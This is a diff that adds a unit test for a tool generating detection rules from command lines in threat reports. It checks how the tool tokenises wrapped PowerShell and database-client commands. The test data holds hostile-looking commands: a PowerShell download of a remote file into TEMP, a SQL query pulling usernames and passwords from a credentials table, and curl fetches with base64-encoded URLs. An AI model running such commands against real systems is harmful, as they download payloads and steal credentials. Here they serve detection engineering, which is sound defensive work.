@@ -370,6 +370,27 @@ describe('builtin SigmaAgent templates', () => {
     expect(distinctiveTokens('curl -s $(echo aHR0cHM6Ly9leGFtcGxlLm9yZy94Cg== | base64 -d)')).toEqual(['aHR0cHM6Ly9leGFtcGxlLm9yZy94Cg==']);
     expect(distinctiveTokens('type "C:\\Users\\Public\\a b.txt"|more')).toEqual(['C:\\Users\\Public\\a b.txt']);
   });
+
+  it("reads a wrapper's quoted command as namedValues does, as its own words", () => {
+    const processRules = (value: string) =>
+      generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value, executable: value.split(' ')[0] ?? '' }] })
+        .filter((draft) => draft.telemetryClass === 'process_creation')
+        .map((draft) => draft.rule.detection);
+    // The cmdlet powershell.exe is told to run is a value of its own, apart from the switch after it.
+    const wrapped = JSON.stringify(
+      processRules('powershell -Command "Invoke-WebRequest -OutFile $env:TEMP\\q.pdf http://198.51.100.4/quill.php"'),
+    );
+    expect(wrapped).toContain('"Invoke-WebRequest"');
+    expect(wrapped).not.toContain('Invoke-WebRequest -OutFile');
+    // The program's own spaced path is not an argument; the query a database client is given keys its rule.
+    const query = JSON.stringify(
+      processRules('"C:\\Program Files\\Quill\\15\\bin\\quillsql.exe" -c "SELECT user_name,password FROM vault_credentials"'),
+    );
+    expect(query).toContain('SELECT user_name,password FROM vault_credentials');
+    expect(query).not.toContain('Files\\\\Quill');
+    // An editor's placeholder for what the article left out is on no command line.
+    expect(JSON.stringify(processRules('curl -fsSL aHR0cHM6Ly9[remaining base64 text redacted] -o /tmp/q'))).not.toContain('redacted');
+  });
 });
 
 describe('commands the analyst ran', () => {
